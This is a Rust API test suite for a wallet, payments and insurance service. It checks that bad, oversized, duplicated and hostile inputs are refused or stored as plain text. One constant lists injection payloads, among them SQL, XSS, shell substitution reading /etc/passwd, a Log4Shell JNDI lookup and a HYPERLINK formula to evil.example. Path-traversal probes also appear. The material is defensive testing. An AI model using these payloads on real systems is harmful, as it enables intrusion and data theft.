//! Hostile and careless requests: each answers the documented 4xx that names the field, and writes nothing.

use reqwest::{Method, RequestBuilder, header};
use serde_json::{Value, json};
use tests::{Person, TestApp};

/// A route that takes a body: a good one, and for each field what it must not be.
struct Route {
    method: Method,
    path: &'static str,
    signed_in: bool,
    good: Value,
    required: &'static [&'static str],
    /// Field, value, code.
    bad: Vec<(&'static str, Value, &'static str)>,
}

fn long(characters: usize) -> Value {
    "x".repeat(characters).into()
}

/// A text that is too long only with the white space around it, which is counted as it was sent.
fn padded(characters: usize) -> Value {
    format!("\u{3000}{}", "x".repeat(characters)).into()
}

fn routes() -> Vec<Route> {
    vec![
        trigger_otp(),
        verify_otp(),
        refresh_token(),
        log_out(),
        set_pin(),
        step_up(),
        change_profile(),
        open_session(),
        purchase(),
        log_out_others(),
        open_wallet(),
    ]
}

fn trigger_otp() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/otp/trigger",
        signed_in: false,
        good: json!({ "phone": "9876543210", "device_info": "Redmi", "device_token": "none of ours" }),
        required: &["phone"],
        bad: vec![
            ("phone", json!("1234567890"), "INVALID_PHONE"),
            ("phone", json!("5876543210"), "INVALID_PHONE"),
            ("phone", json!("+19876543210"), "INVALID_PHONE"),
            ("phone", json!(""), "INVALID_PHONE"),
            ("phone", json!("९८७६५४३२१०"), "INVALID_PHONE"),
            ("phone", long(10_000), "INVALID_PHONE"),
            ("device_info", long(256), "VALIDATION_ERROR"),
            ("device_info", padded(255), "VALIDATION_ERROR"),
            ("device_token", long(256), "VALIDATION_ERROR"),
        ],
    }
}

fn verify_otp() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/otp/verify",
        signed_in: false,
        good: json!({
            "phone": "9876543210", "otp": "123456", "device_info": null, "device_token": null,
            "challenge_id": "0199c8f0-5f1c-7c9e-8d7a-1b2c3d4e5f60",
        }),
        required: &["phone", "otp"],
        bad: vec![
            ("phone", json!("98765"), "INVALID_PHONE"),
            ("otp", json!("12345"), "VALIDATION_ERROR"),
            ("otp", json!("1234567"), "VALIDATION_ERROR"),
            ("otp", json!("12345a"), "VALIDATION_ERROR"),
            ("otp", json!("१२३४५६"), "VALIDATION_ERROR"),
            ("device_info", long(256), "VALIDATION_ERROR"),
            ("device_token", long(256), "VALIDATION_ERROR"),
            ("challenge_id", json!("not-a-uuid"), "VALIDATION_ERROR"),
        ],
    }
}

fn refresh_token() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/token/refresh",
        signed_in: false,
        good: json!({ "refresh_token": "x" }),
        required: &["refresh_token"],
        bad: vec![
            ("refresh_token", json!(""), "INVALID_TOKEN"),
            ("refresh_token", long(5_000), "INVALID_TOKEN"),
        ],
    }
}

/// Whatever the token, its phone may forget it: only the body's form is checked.
fn log_out() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/logout",
        signed_in: false,
        good: json!({ "refresh_token": "x" }),
        required: &[],
        bad: vec![],
    }
}

/// Takes no field at all.
fn log_out_others() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/logout/others",
        signed_in: true,
        good: json!({}),
        required: &[],
        bad: vec![],
    }
}

/// Takes no field at all.
fn open_wallet() -> Route {
    Route { path: "/wallet", ..log_out_others() }
}

fn set_pin() -> Route {
    Route {
        method: Method::PUT,
        path: "/auth/pin",
        signed_in: true,
        good: json!({ "pin": "8305", "otp": "123456", "dob": "1994-08-15", "device_info": "Redmi", "device_token": "" }),
        required: &["pin", "otp"],
        bad: vec![
            ("pin", json!("830"), "VALIDATION_ERROR"),
            ("pin", json!("8305123"), "VALIDATION_ERROR"),
            ("pin", json!("1234"), "VALIDATION_ERROR"),
            ("pin", json!("4321"), "VALIDATION_ERROR"),
            ("pin", json!("1111"), "VALIDATION_ERROR"),
            ("pin", json!("83a5"), "VALIDATION_ERROR"),
            ("otp", json!("12345"), "VALIDATION_ERROR"),
            ("dob", json!("15-08-1994"), "INVALID_DATE_FORMAT"),
            ("dob", json!("2999-01-01"), "INVALID_DATE_FORMAT"),
            ("device_info", long(256), "VALIDATION_ERROR"),
            ("device_token", long(256), "VALIDATION_ERROR"),
        ],
    }
}

fn step_up() -> Route {
    Route {
        method: Method::POST,
        path: "/auth/step-up",
        signed_in: true,
        good: json!({ "pin": "8305" }),
        required: &["pin"],
        bad: vec![("pin", json!("830"), "VALIDATION_ERROR"), ("pin", json!("abcd"), "VALIDATION_ERROR")],
    }
}

fn change_profile() -> Route {
    Route {
        method: Method::PATCH,
        path: "/user/profile",
        signed_in: true,
        good: json!({
            "first_name": "Asha", "last_name": "Devi", "email": "asha@example.in", "dob": "1994-08-15",
            "gender": "female", "address": "12, 4th Cross", "occupation": "driver", "employer": "CityCab",
        }),
        required: &[],
        bad: vec![
            ("first_name", long(256), "VALIDATION_ERROR"),
            ("first_name", padded(255), "VALIDATION_ERROR"),
            ("first_name", json!("As\u{0}ha"), "VALIDATION_ERROR"),
            ("last_name", long(256), "VALIDATION_ERROR"),
            ("email", json!("asha"), "VALIDATION_ERROR"),
            ("email", json!("asha@@example.in"), "VALIDATION_ERROR"),
            ("email", long(300), "VALIDATION_ERROR"),
            ("email", " ".repeat(255).into(), "VALIDATION_ERROR"),
            ("dob", json!("1994-13-01"), "INVALID_DATE_FORMAT"),
            ("dob", json!("15/08/1994"), "INVALID_DATE_FORMAT"),
            ("dob", json!("2026-01-16"), "INVALID_DATE_FORMAT"),
            ("dob", json!("1800-01-01"), "VALIDATION_ERROR"),
            ("gender", json!("robot"), "VALIDATION_ERROR"),
            ("address", long(501), "VALIDATION_ERROR"),
            ("address", padded(500), "VALIDATION_ERROR"),
            ("occupation", json!("astronaut"), "VALIDATION_ERROR"),
            ("employer", long(256), "VALIDATION_ERROR"),
            ("phone", json!("9876543211"), "IMMUTABLE_FIELD"),
            ("aadhaar_last4", json!("XXXXXXXX1234"), "IMMUTABLE_FIELD"),
            ("aadhaar_number", json!("999941057058"), "IMMUTABLE_FIELD"),
        ],
    }
}

fn open_session() -> Route {
    Route {
        method: Method::POST,
        path: "/payments/session",
        signed_in: true,
        good: json!({ "type": "WALLET_TOPUP", "amount": 50_000, "method": "JUSPAY" }),
        required: &["type", "amount"],
        bad: vec![
            ("type", json!("GIFT"), "VALIDATION_ERROR"),
            ("amount", json!(0), "INVALID_AMOUNT"),
            ("amount", json!(-100), "INVALID_AMOUNT"),
            ("amount", json!(99), "INVALID_AMOUNT"),
            ("amount", json!(20_000_001), "INVALID_AMOUNT"),
            ("amount", json!(i64::MAX), "INVALID_AMOUNT"),
            ("amount", json!(500.5), "VALIDATION_ERROR"),
            ("amount", json!("50000"), "VALIDATION_ERROR"),
            ("method", json!("WALLET"), "VALIDATION_ERROR"),
            ("method", json!("CASH"), "VALIDATION_ERROR"),
            ("quote_id", json!("7"), "VALIDATION_ERROR"),
            ("quote_id", Value::Null, "VALIDATION_ERROR"),
        ],
    }
}

fn purchase() -> Route {
    Route {
        method: Method::POST,
        path: "/insurance/purchase",
        signed_in: true,
        good: json!({
            "plan_id": "019bc1a0-1c40-7a21-8f3e-6b1d90c54e77", "payment_order_id": "7K3M9X2QH8T4WBN5C6DR",
            "quote_id": "019bc1a9-4e20-7c5d-b1f2-87a3c60d19e4",
        }),
        required: &["plan_id", "payment_order_id"],
        bad: vec![
            ("plan_id", json!("NH-ADITI-5L"), "VALIDATION_ERROR"),
            ("quote_id", json!("7"), "VALIDATION_ERROR"),
            ("dependants", json!("Kiran"), "VALIDATION_ERROR"),
        ],
    }
}

fn begin(app: &TestApp, person: &Person<'_>, route: &Route) -> RequestBuilder {
    let request = app.request(route.method.clone(), route.path);
    let request =
        if route.path == "/payments/session" { request.header("idempotency-key", "k") } else { request };
    if route.signed_in { request.bearer_auth(&person.access_token) } else { request }
}

#[tokio::test]
async fn every_field_of_every_body_is_checked_and_named() {
    let app = TestApp::start().await;
    let person = app.person().await;
    let before = app.rows().await;
    for route in routes() {
        app.forget_limits().await;
        for field in route.required {
            let mut body = route.good.clone();
            body.as_object_mut().unwrap().remove(*field);
            let answer = app.send(begin(&app, &person, &route).json(&body)).await;
            let answer = answer.expect_error(400, "MISSING_REQUIRED_FIELD");
            assert_eq!(answer.json["details"]["field"], *field, "{}", route.path);
            app.forget_limits().await;
            body[*field] = Value::Null;
            let answer = app.send(begin(&app, &person, &route).json(&body)).await;
            let answer = answer.expect_error(400, "VALIDATION_ERROR");
            assert_eq!(answer.json["details"]["field"], *field, "{}", route.path);
        }
        for field in route.good.as_object().unwrap().keys() {
            for wrong in [json!(true), json!([]), json!({ "a": 1 })] {
                app.forget_limits().await;
                let mut body = route.good.clone();
                body[field] = wrong;
                let answer = app.send(begin(&app, &person, &route).json(&body)).await;
                let answer = answer.expect_error(400, "VALIDATION_ERROR");
                assert_eq!(answer.json["details"]["field"], **field, "{}", route.path);
            }
        }
        for (field, value, code) in &route.bad {
            app.forget_limits().await;
            let mut body = route.good.clone();
            body[*field] = value.clone();
            let answer = app.send(begin(&app, &person, &route).json(&body)).await;
            let status = if *code == "INVALID_TOKEN" { 401 } else { 400 };
            let answer = answer.expect_error(status, code);
            if status == 400 {
                assert_eq!(answer.json["details"]["field"], **field, "{} {value}", route.path);
            }
            if let Some(text) = value.as_str().filter(|text| text.len() > 4) {
                assert!(!answer.text.contains(text), "the value is shown back: {}", answer.text);
            }
        }
    }
    assert_eq!(app.rows().await, before, "something was written");
}

#[tokio::test]
async fn what_is_no_proper_json_is_refused() {
    let app = TestApp::start().await;
    let person = app.person_with_wallet().await;
    let before = app.rows().await;
    for route in routes() {
        app.forget_limits().await;
        let send = |content_type: &'static str, body: Vec<u8>| {
            app.send(begin(&app, &person, &route).header(header::CONTENT_TYPE, content_type).body(body))
        };
        let json = "application/json";
        let good = serde_json::to_vec(&route.good).unwrap();
        let nothing = send(json, Vec::new()).await;
        match route.path {
            // These need no body, whatever the content type says.
            "/auth/logout" | "/auth/logout/others" | "/wallet" => assert_eq!(nothing.status, 200),
            _ => drop(nothing.expect_error(400, "MALFORMED_JSON")),
        }
        send(json, b"{".to_vec()).await.expect_error(400, "MALFORMED_JSON");
        send(json, b"{\"a\":\xff}".to_vec()).await.expect_error(400, "MALFORMED_JSON");
        send(json, [good.as_slice(), b"x"].concat()).await.expect_error(400, "MALFORMED_JSON");
        send(json, b"[]".to_vec()).await.expect_error(400, "VALIDATION_ERROR");
        send(json, b"null".to_vec()).await.expect_error(400, "VALIDATION_ERROR");
        send(json, "[".repeat(100_000).into_bytes()).await.expect_error(400, "MALFORMED_JSON");
        send("text/plain", good.clone()).await.expect_error(415, "UNSUPPORTED_MEDIA_TYPE");
        send("application/xml", good.clone()).await.expect_error(415, "UNSUPPORTED_MEDIA_TYPE");
        let huge = format!("{{\"a\": \"{}\"}}", "x".repeat(256 * 1024));
        send(json, huge.into_bytes()).await.expect_error(413, "PAYLOAD_TOO_LARGE");
        let mut unknown = route.good.clone();
        unknown["favourite_colour"] = "blue".into();
        let answer = app.send(begin(&app, &person, &route).json(&unknown)).await;
        let answer = answer.expect_error(400, "VALIDATION_ERROR");
        assert_eq!(answer.json["details"]["field"], "favourite_colour");
    }
    assert_eq!(app.rows().await, before, "something was written");
}

#[tokio::test]
async fn paths_and_queries_are_checked_too() {
    let app = TestApp::start().await;
    let person = app.person_with_wallet().await;
    let wallet_id = person.get("/wallet").await.text("transcorp_wallet_id");
    let before = app.rows().await;
    let history = format!("/wallet/{wallet_id}/transactions/history");
    for (path, status, code) in [
        (format!("{history}/366"), 400, "NUMBER_OF_DAYS_OUT_OF_RANGE"),
        (format!("{history}/-1"), 400, "NUMBER_OF_DAYS_OUT_OF_RANGE"),
        (format!("{history}/many"), 400, "VALIDATION_ERROR"),
        (format!("{history}/0?limit=0"), 400, "VALIDATION_ERROR"),
        (format!("{history}/0?limit=101"), 400, "VALIDATION_ERROR"),
        (format!("{history}/0?limit=x"), 400, "VALIDATION_ERROR"),
        (format!("{history}/0?cursor=zzz"), 400, "VALIDATION_ERROR"),
        (format!("{history}/0?sort=up"), 400, "VALIDATION_ERROR"),
        ("/wallet/wlm_somebodyelses000/balance".to_owned(), 404, "WALLET_NOT_FOUND"),
        ("/wallet/wlm_somebodyelses000/status".to_owned(), 404, "WALLET_NOT_FOUND"),
        ("/wallet/statement".to_owned(), 400, "MISSING_REQUIRED_FIELD"),
        ("/wallet/statement?from=2026-01-01".to_owned(), 400, "MISSING_REQUIRED_FIELD"),
        ("/wallet/statement?from=2026-01-01&to=2025-01-01".to_owned(), 400, "VALIDATION_ERROR"),
        ("/wallet/statement?from=01-01-2026&to=2026-01-31".to_owned(), 400, "INVALID_DATE_FORMAT"),
        ("/wallet/statement?from=2020-01-01&to=2026-01-31".to_owned(), 400, "VALIDATION_ERROR"),
        ("/payments/orders?limit=1000".to_owned(), 400, "VALIDATION_ERROR"),
        ("/payments/orders?cursor=%00".to_owned(), 400, "VALIDATION_ERROR"),
        ("/payments/orders/NOSUCHORDER".to_owned(), 404, "ORDER_NOT_FOUND"),
        ("/payments/orders/not-an-order!".to_owned(), 404, "ORDER_NOT_FOUND"),
        ("/no/such/path".to_owned(), 404, "NOT_FOUND"),
    ] {
        person.get(&path).await.expect_error(status, code);
    }
    person.delete("/auth/sessions/not-a-uuid").await.expect_error(400, "VALIDATION_ERROR");
    let nobody = "/auth/sessions/0199c8f0-5f1c-7c9e-8d7a-1b2c3d4e5f60";
    person.delete(nobody).await.expect_error(404, "SESSION_NOT_FOUND");
    person.delete("/wallet").await.expect_error(405, "METHOD_NOT_ALLOWED");
    assert_eq!(app.rows().await, before, "something was written");
}

#[tokio::test]
async fn headers_are_checked_too() {
    let app = TestApp::start().await;
    let person = app.person_with_wallet().await;
    let before = app.rows().await;
    let body = json!({ "type": "WALLET_TOPUP", "amount": 50_000 });
    let session = || person.request(Method::POST, "/payments/session").json(&body);
    let missing = app.send(session()).await.expect_error(400, "MISSING_REQUIRED_FIELD");
    assert_eq!(missing.json["details"]["field"], "Idempotency-Key");
    for key in ["", &"k".repeat(65), "schlüssel", "a\tb"] {
        // Where a key is required, and where it may be given.
        let others = ["/wallet", "/auth/logout/others"].map(|path| person.request(Method::POST, path));
        for request in others.into_iter().chain([session()]) {
            let answer = app.send(request.header("idempotency-key", key)).await;
            let answer = answer.expect_error(400, "VALIDATION_ERROR");
            assert_eq!(answer.json["details"]["field"], "Idempotency-Key");
        }
    }
    for path in ["/wallet", "/auth/logout/others"] {
        let twice =
            person.request(Method::POST, path).header("idempotency-key", "a").header("idempotency-key", "b");
        app.send(twice).await.expect_error(400, "VALIDATION_ERROR");
    }
    assert_eq!(app.rows().await, before, "something was written");
    let statement = "/wallet/statement?from=2026-01-01&to=2026-01-31";
    let pdf = person.request(Method::GET, statement).header(header::ACCEPT, "application/pdf");
    app.send(pdf).await.expect_error(400, "VALIDATION_ERROR");

    let echoed = app.send(app.request(Method::GET, "/health").header("x-request-id", "my-id.1")).await;
    assert_eq!(echoed.header("x-request-id"), "my-id.1");
    let replaced = app.send(app.request(Method::GET, "/health").header("x-request-id", "a b\tc")).await;
    assert_eq!(replaced.header("x-request-id").len(), 36, "one of ours instead");
}

#[tokio::test]
async fn bodies_from_outside_are_not_taken_without_end() {
    let app = TestApp::start().await;
    let before = app.rows().await;
    let huge = "x".repeat(300 * 1024);
    for (path, content_type) in
        [("/webhooks/juspay", "application/json"), ("/payments/return", "application/x-www-form-urlencoded")]
    {
        let request = app
            .request(Method::POST, path)
            .basic_auth("aarokyaSandbox", Some("sandbox-juspay-webhook-password"))
            .header(header::CONTENT_TYPE, content_type);
        app.send(request.body(huge.clone())).await.expect_error(413, "PAYLOAD_TOO_LARGE");
    }
    // Just below it is read, and refused for what it says.
    let webhook = app
        .request(Method::POST, "/webhooks/juspay")
        .basic_auth("aarokyaSandbox", Some("sandbox-juspay-webhook-password"));
    let filled = webhook.header(header::CONTENT_TYPE, "application/json").body("x".repeat(255 * 1024));
    app.send(filled).await.expect_error(400, "MALFORMED_JSON");
    let unsigned = app.request(Method::POST, "/payments/return").body("y".repeat(255 * 1024));
    app.send(unsigned).await.expect(200);
    assert_eq!(app.rows().await, before, "something was written");
}

/// What would be a command to somebody: a database, a page, a shell, a template, a formula, a format, a log.
const COMMANDS: [&str; 12] = [
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "Robert\\'); SELECT pg_sleep(60); --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "$(touch /tmp/x) `id` | cat /etc/passwd",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x %(name)s {0} {}",
    "=HYPERLINK(\"http://evil.example\")",
    "*)(uid=*))(|(uid=*",
    "(a+)+$ [[:alpha:]]* .*.*.*",
];

#[tokio::test]
async fn what_would_be_a_command_elsewhere_is_a_text_here() {
    let app = TestApp::start().await;
    let person = app.person().await;
    for command in COMMANDS {
        let told = json!({ "first_name": command, "address": command, "employer": command });
        person.patch("/user/profile", &told).await.expect(200);
        let kept = person.get("/user/profile").await.expect(200).json;
        for field in ["first_name", "address", "employer"] {
            assert_eq!(kept[field], command);
        }
        // Where no such text can stand it is refused, and nothing else happens.
        let told = json!({ "phone": command, "otp": command, "device_info": command });
        app.post("/auth/otp/verify", &told).await.expect(400);
        let path = format!(
            "/payments/orders/{}",
            percent_encoding::utf8_percent_encode(command, percent_encoding::NON_ALPHANUMERIC)
        );
        person.get(&path).await.expect_error(404, "ORDER_NOT_FOUND");
        app.forget_limits().await;
    }
    person.get("/user/profile").await.expect(200);
}

#[tokio::test]
async fn what_is_said_twice_is_refused() {
    let app = TestApp::start().await;
    let person = app.person().await;
    let before = app.rows().await;
    for path in [
        "/payments/orders?limit=1&limit=2",
        "/payments/orders?limit=1&limit=1",
        "/wallet/statement?from=2026-01-01&to=2026-01-31&to=2026-01-30",
    ] {
        person.get(path).await.expect_error(400, "VALIDATION_ERROR");
    }
    for (method, path, body) in [
        (Method::PATCH, "/user/profile", r#"{"first_name":"Asha","first_name":"Devi"}"#),
        (Method::PATCH, "/user/profile", r#"{"first_name":"Asha","first\u005fname":"Devi"}"#),
        (Method::POST, "/auth/step-up", r#"{"pin":"8305","pin":"8306"}"#),
    ] {
        let request =
            person.request(method, path).header(header::CONTENT_TYPE, "application/json").body(body);
        app.send(request).await.expect(400);
    }
    assert_eq!(app.rows().await, before, "something was written");
}

#[tokio::test]
async fn methods_and_paths_that_nobody_listed_are_not_there() {
    let app = TestApp::start().await;
    let person = app.person().await;
    let other = |method: &str| Method::from_bytes(method.as_bytes()).expect("a method");
    for method in ["TRACE", "PUT", "DELETE", "PROPFIND", "INVENTED"] {
        for path in ["/user/profile", "/wallet", "/health"] {
            let answer = app.send(person.request(other(method), path)).await;
            answer.expect_error(405, "METHOD_NOT_ALLOWED");
        }
    }
    // Nothing of the machine, of the program's own insides, or of its making.
    for path in [
        "/metrics",
        "/.git/config",
        "/.env",
        "/admin",
        "/debug/pprof",
        "/actuator",
        "/server-status",
        "/static/",
        "/wallet/..%2f..%2fetc%2fpasswd/balance",
        "/%2e%2e/%2e%2e/etc/passwd",
        "//etc/passwd",
    ] {
        let answer = person.get(path).await;
        assert_eq!(answer.status, 404, "{path}: {}", answer.text);
        let server =
            answer.headers.keys().any(|name| matches!(name.as_str(), "server" | "x-powered-by" | "via"));
        assert!(!server, "{path} tells what answers");
    }
}
